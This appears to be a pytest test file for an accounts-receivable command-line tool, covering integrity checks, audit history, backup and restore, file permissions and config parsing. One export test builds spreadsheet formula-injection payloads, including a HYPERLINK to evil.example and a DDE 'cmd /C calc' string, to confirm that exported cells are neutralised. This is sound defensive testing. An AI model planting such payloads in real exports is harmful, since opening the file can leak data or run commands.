"""`ar check`, the audit trail, `ar history`, backup and restore, file permissions and the config file."""

import datetime as dt
import json
import re
import sqlite3
import stat

import pytest

from conftest import ar_process, dump, ledger_env, on_a_terminal, rows


@pytest.fixture
def books(ok):
    """Two customers with deliveries, partial payments, a void, credit, a promise and a write-off."""
    ok("customer", "add", "Acme", "--terms", "net 30", "--code", "AC")
    ok("customer", "add", "Bolt", "--terms", "cod")
    ok("delivery", "add", "Acme", "1,000", "--ref", "D1", "--date", "2026-09-01")
    ok("delivery", "add", "Acme", "500", "--ref", "D2", "--date", "2026-10-01")
    ok("delivery", "add", "Bolt", "300", "--ref", "D3", "--date", "2026-10-05")
    ok("payment", "add", "Acme", "400", "--ref", "P1", "--date", "2026-10-10")
    ok("payment", "add", "Bolt", "450", "--ref", "P2", "--date", "2026-10-20")  # 150 on account
    ok("payment", "add", "Acme", "100", "--ref", "P3", "--date", "2026-11-01")
    ok("void", "payment", "P3", "--reason", "bounced")
    ok("promise", "add", "Acme", "600", "--by", "2026-11-30")
    ok("writeoff", "Acme", "100", "--items", "D2", "--reason", "damaged goods", "--ref", "W1")
    return None


def check(ar):
    r = ar("check", "-f", "json")
    return r.code, json.loads(r.out)


def test_a_sound_ledger_passes_every_check(ar, ok, db, books):
    code, report = check(ar)
    assert code == 0 and report["ok"] and report["faults"] == []
    allocations = rows(db, "select count(*) from allocation")[0][0]
    assert report["counts"] == {"customer": 2, "entry": 8, "item": 3, "allocation": allocations}
    r = ok("check")
    assert r.out.startswith("ok: ") and "2 customers, 8 entries, 3 items" in r.out


def test_check_shows_its_progress_on_a_terminal_only(ar, ok, db, books):
    """`ar check` on a big ledger takes minutes: on a terminal a bar says which check runs; piped, nothing."""
    from arcli.storage.integrity import CHECKS

    code, out, shown = on_a_terminal("check", env=ledger_env(db))
    assert code == 0 and out.startswith("ok: ")
    for what, _check in CHECKS:
        assert what in shown, what
    assert "the aging buckets" in shown and "0:00:0" in shown  # and the time it has taken
    piped = ar_process("check", env=ledger_env(db))
    assert piped.returncode == 0 and piped.stdout == out and piped.stderr == ""


@pytest.mark.sqlite_only("backups are SQLite files")
def test_restore_shows_the_checks_of_the_backup_on_a_terminal(ok, db, books, tmp_path):
    ok("backup", str(tmp_path / "b.db"))
    code, out, shown = on_a_terminal("restore", str(tmp_path / "b.db"), "--force", env=ledger_env(db))
    assert code == 0 and out.startswith("Restored ")
    assert "checking the backup" in shown and "the seals of posted rows" in shown


def test_check_counts_the_rows_it_reads_for_seals(ok, db, books, monkeypatch):
    """The seals check (most of `ar check` on a big ledger) reports the rows read of all three posted tables."""
    from arcli.services.check import check as run_check
    from arcli.services.context import Context
    from arcli.storage import integrity

    monkeypatch.setattr(integrity, "EVERY", 2)
    heard: list[tuple[int, int, str]] = []
    url = db.url if hasattr(db, "url") else f"sqlite:///{db}"
    report = run_check(
        Context(url=url, today=dt.date(2026, 11, 23), now=dt.datetime.now(dt.UTC)),
        lambda done, total, what: heard.append((done, total, what)),
    )
    assert report.ok
    labels = list(dict.fromkeys(what for _d, _t, what in heard))
    assert labels == [what for what, _check in integrity.CHECKS] + ["the aging buckets"]
    sealed = [(d, t) for d, t, what in heard if what == "the seals of posted rows" and t]
    rows_in_all = sum(report.counts[t] for t in ("entry", "item", "allocation"))
    assert sealed[-1] == (rows_in_all, rows_in_all) and len(sealed) > 3
    assert [d for d, _t in sealed] == sorted(d for d, _t in sealed)


def raw(db, sql: str) -> None:
    con = sqlite3.connect(db)
    try:
        con.executescript(sql)
    finally:
        con.close()


PLANTED = {
    # over-allocation: more applied to D1's item than it is, from a payment of the same customer
    "over-allocation": (
        "INSERT INTO allocation (payment_id, item_id, amount, date, created_at) "
        "SELECT e.id, i.id, 99900, '2026-11-02', '2026-11-02 00:00:00' FROM entry e, item i "
        "WHERE e.ref = 'P1' AND i.ref = 'D1'",
        ["allocation: item D1 is over-allocated", "allocation: payment P1 is over-allocated"],
    ),
    "orphan allocation": (
        "PRAGMA foreign_keys = OFF; INSERT INTO allocation (payment_id, item_id, amount, date, created_at) "
        "VALUES (9999, 1, 100, '2026-11-02', '2026-11-02 00:00:00')",
        ["foreign-key: allocation row", "allocation: allocation", "is orphaned: its payment 9999 does not exist"],
    ),
    "payment counted twice in a past day's history": (
        "INSERT INTO allocation (payment_id, item_id, amount, date, created_at) "
        "SELECT e.id, i.id, 40000, '2026-10-10', '2026-11-02 00:00:00' FROM entry e, item i "
        "WHERE e.ref = 'P1' AND i.ref = 'D1';"
        "INSERT INTO allocation (payment_id, item_id, amount, date, created_at) "
        "SELECT e.id, i.id, -40000, '2026-11-05', '2026-11-05 00:00:00' FROM entry e, item i "
        "WHERE e.ref = 'P1' AND i.ref = 'D1'",
        ["payment P1 has 800.00 applied as of 2026-10-10, more than its 400.00: that day's history counts"],
    ),
    "allocation across customers": (
        "INSERT INTO allocation (payment_id, item_id, amount, date, created_at) "
        "SELECT e.id, i.id, 1, '2026-11-02', '2026-11-02 00:00:00' FROM entry e, item i "
        "WHERE e.ref = 'P2' AND i.ref = 'D1'",
        ["belong to different customers"],
    ),
    "changed posted row": (
        "DROP TRIGGER entry_no_update; UPDATE entry SET delta = delta + 1 WHERE ref = 'D1'",
        [
            "audit: the guard trigger entry_no_update is missing",
            "audit: entry 1 (D1) was changed after it was posted",
            "entry: delivery D1 is 1,000.01 but its items add up to 1,000.00",
        ],
    ),
    "changed allocation": (
        "DROP TRIGGER allocation_no_update; UPDATE allocation SET amount = amount - 1 WHERE id = 1",
        ["audit: allocation 1", "was changed after it was posted", "derived: "],
    ),
    "broken balance": (
        "INSERT INTO entry (kind, ref, customer_id, date, delta, created_at, command) "
        "VALUES ('delivery', 'GHOST', 1, '2026-11-02', 777, '2026-11-02 00:00:00', 'sql')",
        [
            "audit: entry 9 (GHOST) has no seal",
            "entry: delivery GHOST is 7.77 but its items add up to 0.00",
            "balance: Acme: the entries give a balance of",
        ],
    ),
    "unbalanced reversal": (
        "INSERT INTO entry (kind, ref, customer_id, date, delta, reverses_id, created_at, command) "
        "SELECT 'reversal', 'void delivery D3', customer_id, '2026-11-02', -1, id, '2026-11-02 00:00:00', 'sql' "
        "FROM entry WHERE ref = 'D3'",
        ["reversal: reversal 'void delivery D3' of -0.01 does not net the delivery it reverses (300.00) to zero"],
    ),
    "derived table edited": (
        "UPDATE open_item SET open = open + 5",
        ["derived: open_item for item_id", "aging: the aging buckets (due basis) add up to"],
    ),
    "deleted allocation": (
        "DROP TRIGGER allocation_no_delete; DELETE FROM allocation WHERE id = 1",
        ["derived: "],
    ),
    "balance kept current edited": (
        "UPDATE customer_balance SET balance = balance + 5 WHERE customer_id = 1",
        ["derived: customer_balance for customer_id 1 differs from what the history gives"],
    ),
    "money counted towards a promise edited": (
        "UPDATE promise_paid SET paid = paid + 5",
        ["derived: promise_paid for promise_id 1 differs from what the history gives"],
    ),
    "money counted towards a promise lost": (
        "DELETE FROM promise_paid",
        ["derived: promise_paid for promise_id 1 differs from what the history gives"],
    ),
    "balance trigger dropped": (
        "DROP TRIGGER entry_balance",
        ["derived: the trigger entry_balance is missing: customer_balance no longer follows new entries"],
    ),
}


@pytest.mark.sqlite_only("plants faults with SQLite's SQL (PRAGMA, trigger names)")
@pytest.mark.parametrize("fault", PLANTED)
def test_check_finds_each_planted_fault(ar, ok, db, books, fault):
    sql, expected = PLANTED[fault]
    raw(db, sql)
    r = ar("check")
    assert r.code == 1, r.out
    assert r.err.count("\n") == 1 and r.err.startswith("error: ")
    counted = re.match(r"error: (\d+) (faults?) found in ", r.err)  # in words that agree with the count
    assert counted and (counted[2] == "fault") == (counted[1] == "1"), r.err
    for line in expected:
        assert line in r.out, f"{line!r} not in:\n{r.out}"
    assert all(": " in line for line in r.out.splitlines())  # one line per fault, named by its check
    code, report = check(ar)
    assert code == 1 and not report["ok"] and len(report["faults"]) == len(r.out.splitlines())


@pytest.mark.sqlite_only("raw SQL through sqlite3 (test_postgres.py covers the server)")
@pytest.mark.parametrize("table", ["entry", "item", "allocation", "sale", "promise", "contact"])
def test_the_database_refuses_to_change_posted_rows(ok, db, books, table):
    ok("sale", "add", "Acme", "5,000", "--ref", "S1")
    ok("log", "Acme", "call", "--note", "asked for the 600")
    before = dump(db)
    for sql in (f"UPDATE {table} SET id = id", f"DELETE FROM {table}"):
        with pytest.raises(sqlite3.IntegrityError, match="posted rows are never changed or deleted"):
            raw(db, sql)
    assert dump(db) == before


def test_history_shows_every_write_with_its_command_and_rep(ok, books, monkeypatch):
    monkeypatch.setenv("AR_REP", "wang")
    ok("payment", "add", "AC", "50", "--ref", "P9")
    ok("void", "payment", "P9", "--reason", "typo")
    out = ok("history", "Acme", "-f", "json").json()
    kinds = [(x["record"], x["ref"], x["command"]) for x in out]
    assert kinds[0] == ("customer", "Acme", "customer add")
    assert ("delivery", "D1", "delivery add") in kinds
    assert ("reversal", "void payment P3", "void payment") in kinds
    assert ("writeoff", "W1", "writeoff") in kinds
    assert ("promise", "#1", "promise add") in kinds
    assert kinds[-2:] == [("payment", "P9", "payment add"), ("reversal", "void payment P9", "void payment")]
    assert out[-1]["by"] == "wang" and out[-1]["note"] == "typo" and out[-1]["amount"] == "50.00"
    assert [x["written"] for x in out] == sorted(x["written"] for x in out)
    assert all(x["written"].endswith("+00:00") for x in out)  # stored and given in UTC
    last = ok("history", "AC", "--limit", "2", "-f", "json").json()
    assert last == out[-2:]
    table = ok("history", "Acme").out
    assert "History of Acme" in table and "void payment P9" in table


@pytest.mark.sqlite_only("backup and restore are for a SQLite ledger (pg_dump on a server)")
def test_backup_is_private_consistent_and_restores(ar, ok, db, books, tmp_path):
    target = tmp_path / "backups" / "b.db"
    target.parent.mkdir()
    r = ok("backup", str(target))
    assert f"to {target}" in r.out
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert rows(target, "pragma journal_mode") == [("delete",)]  # one self-contained file
    assert not list(target.parent.glob(".*tmp"))
    saved = dump(db)
    r = ar("backup", str(target))
    assert r.code == 1 and "exists: pass --force" in r.err
    ok("backup", str(target), "--force")
    # the ledger moves on; restore takes it back, and only with --force
    ok("payment", "add", "Acme", "10", "--ref", "LATE")
    r = ar("restore", str(target))
    assert r.code == 1 and "pass --force" in r.err and r.err.count("\n") == 1
    ok("restore", str(target), "--force")
    assert dump(db) == saved
    ok("check")
    # into a new ledger file, created private
    fresh = tmp_path / "new" / "ledger.db"
    ok("--db", str(fresh), "restore", str(target))
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
    assert dump(fresh) == saved


@pytest.mark.sqlite_only("backup and restore are for a SQLite ledger")
def test_restore_checks_the_backup_first(ar, ok, db, books, tmp_path):
    before = dump(db)
    junk = tmp_path / "junk.db"
    junk.write_bytes(b"not a database at all" * 100)
    r = ar("restore", str(junk), "--force")
    assert r.code == 1 and "is not a ledger backup" in r.err
    other = tmp_path / "other.db"
    sqlite3.connect(other).executescript("create table t (x); insert into t values (1);")
    r = ar("restore", str(other), "--force")
    assert r.code == 1 and "not an arcli ledger" in r.err
    bad = tmp_path / "bad.db"
    ok("backup", str(bad))
    raw(bad, "UPDATE open_item SET open = open + 1")
    r = ar("restore", str(bad), "--force")
    assert r.code == 1 and "fails `ar check` (derived: open_item" in r.err and "nothing restored" in r.err
    r = ar("restore", str(tmp_path / "missing.db"), "--force")
    assert r.code == 1 and "no backup file" in r.err
    assert dump(db) == before
    assert not [p for p in db.parent.iterdir() if p.name.endswith(".tmp")]


@pytest.mark.sqlite_only("backup and restore are for a SQLite ledger")
def test_backup_refuses_what_it_cannot_do(ar, ok, db, books, tmp_path):
    assert "the backup cannot be the ledger itself" in ar("backup", str(db), "--force").err
    assert "is a directory" in ar("backup", str(tmp_path)).err
    assert "no directory" in ar("backup", str(tmp_path / "no" / "such" / "b.db")).err
    r = ar("--db", str(tmp_path / "none.db"), "backup", str(tmp_path / "b.db"))
    assert r.code == 1 and "no ledger at" in r.err


@pytest.mark.sqlite_only("the ledger file's permissions")
def test_ledger_files_are_private_in_a_private_directory(ok, tmp_path, monkeypatch):
    monkeypatch.delenv("AR_DB", raising=False)
    ok("customer", "add", "A")
    ledger = tmp_path / "xdg-data" / "arcli" / "ledger.db"
    assert stat.S_IMODE(ledger.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(ledger.stat().st_mode) == 0o600
    # while a reader holds the database open, the -wal and -shm files exist: private too
    con = sqlite3.connect(ledger)
    con.execute("select count(*) from customer").fetchall()
    ok("customer", "add", "B")
    for suffix in ("-wal", "-shm"):
        side = ledger.with_name(ledger.name + suffix)
        assert side.exists() and stat.S_IMODE(side.stat().st_mode) == 0o600, suffix
    con.close()


@pytest.mark.sqlite_only("a ledger file named in the config file")
def test_config_file_sets_the_ledger_and_the_rep(ok, tmp_path, monkeypatch):
    monkeypatch.delenv("AR_DB", raising=False)
    conf = tmp_path / "home" / ".config" / "arcli" / "config.toml"
    conf.parent.mkdir(parents=True)
    ledger = tmp_path / "team.db"
    conf.write_text(f'db = "{ledger}"\nrep = "li"\n')
    ok("customer", "add", "A", "--terms", "cod")
    ok("delivery", "add", "A", "10", "--ref", "X")
    assert rows(ledger, "select actor from entry") == [("li",)]
    monkeypatch.setenv("AR_REP", "zhao")  # the environment wins over the file
    ok("delivery", "add", "A", "10", "--ref", "Y")
    assert rows(ledger, "select actor from entry where ref='Y'") == [("zhao",)]


def test_a_readable_config_file_with_a_password_is_refused(ar, tmp_path, monkeypatch):
    monkeypatch.delenv("AR_DB", raising=False)
    conf = tmp_path / "conf.toml"
    conf.write_text('database_url = "postgresql+psycopg://rep:s3cret@db.example/ar"\n')
    monkeypatch.setenv("AR_CONFIG", str(conf))
    conf.chmod(0o644)
    r = ar("balance")
    assert r.code == 1 and "others can read it" in r.err and "chmod 600" in r.err
    assert "s3cret" not in r.err and r.err.count("\n") == 1
    conf.chmod(0o600)
    r = ar("balance")
    assert "others can read it" not in r.err and "s3cret" not in r.out + r.err
    conf.write_text("colour = 1\n")
    assert "has an unknown key colour;" in ar("balance").err
    conf.write_text("colour = 1\nsize = 2\n")
    assert "has unknown keys colour, size;" in ar("balance").err
    conf.write_text("db = [\n")
    assert "not valid TOML" in ar("balance").err


def test_hostile_names_export_safely_and_round_trip(ok, tmp_path, db):
    """1,000 customers whose names begin with = + - @ (or an apostrophe before one), tab or CR; deliveries whose
    notes do too. No exported cell is one a spreadsheet would run, and both exports re-import to the same names."""
    import csv

    from openpyxl import load_workbook

    from arcli.domain.importing import FORMULA_STARTS, formula_safe

    starts = ["=", "+", "-", "@", "\t=", "\r+", "'=", "''@", "\t", "\r"]
    payloads = ['HYPERLINK("http://evil.example/?{n}","x")', "1+{n}", "cmd|' /C calc'!A{n}", "SUM(A1:A{n})"]
    raw = [starts[n % len(starts)] + payloads[n % len(payloads)].format(n=n) for n in range(1000)]
    src = tmp_path / "hostile.csv"
    with src.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["name", "terms", "note"])
        w.writerows([name, "cod", name] for name in raw)
    ok("import", "customers", src)
    names = {c["name"] for c in ok("customer", "list", "-f", "json").json()}
    # as stored: surrounding whitespace trimmed (so no name starts with a tab or CR), one apostrophe taken
    # off before a formula character (the CSV convention), everything else kept
    assert names == {n.strip().removeprefix("'") if n.strip().lstrip("'")[:1] in "=+-@" else n.strip() for n in raw}
    assert sum(n[:1] in "=+-@" for n in names) >= 700
    dl = tmp_path / "dl.csv"
    with dl.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["ref", "customer", "date", "amount", "note"])
        safe = formula_safe  # the CSV convention: '=… is read as =…, so a name that starts with ' is written ''…
        w.writerows([f"D{n}", safe(name), "2026-11-01", "10", safe(name)] for n, name in enumerate(sorted(names)[:200]))
    ok("import", "deliveries", dl)

    def unsafe(cell: str) -> bool:
        return cell[:1] in FORMULA_STARTS

    ok("export", "ledger", tmp_path / "csv")
    for path in (tmp_path / "csv").glob("*.csv"):
        with path.open(newline="", encoding="utf-8-sig") as f:
            bad = [cell for row in csv.reader(f) for cell in row if unsafe(cell)]
        assert bad == [], f"{path.name}: {bad[:3]}"
    ok("export", "ledger", tmp_path / "xlsx", "--format", "xlsx")
    for path in (tmp_path / "xlsx").glob("*.xlsx"):
        for row in load_workbook(path).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {cell.coordinate} is a formula"
                if isinstance(cell.value, str) and unsafe(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{path.name} {cell.coordinate}"
    for fmt in ("csv", "xlsx"):
        again = tmp_path / f"again-{fmt}.db"
        for kind in ("customers", "deliveries"):
            ok("--db", again, "import", kind, tmp_path / fmt / f"{kind}.{fmt}")
        got = ok("--db", again, "customer", "list", "-f", "json").json()
        assert {c["name"] for c in got} == names
        notes = {r[0] for r in rows(again, "select note from entry")}
        assert notes == {r[0] for r in rows(db, "select note from entry")}


@pytest.mark.sqlite_only("the ledger file's name")
def test_a_ledger_path_the_system_refuses_is_one_line(ar, tmp_path):
    """Found by the fuzzer: a file name longer than the file system allows was an internal error."""
    long_name = tmp_path / ("x" * 300)
    for path, reason in [
        (long_name, "File name too long"),
        (long_name / "b.db", "File name too long"),
        (tmp_path / "plain-file" / "b.db", "Not a directory"),
    ]:
        (tmp_path / "plain-file").write_text("")
        r = ar("--db", str(path), "init")
        assert r.code == 1, r
        assert r.err.count("\n") == 1 and "internal error" not in r.err
        assert f"cannot create the ledger at {path}: {reason}" in r.err
    r = ar("import", "deliveries", str(tmp_path / ("y" * 300 + ".csv")))
    assert r.code == 1 and r.err.count("\n") == 1 and "File name too long" in r.err and "internal error" not in r.err
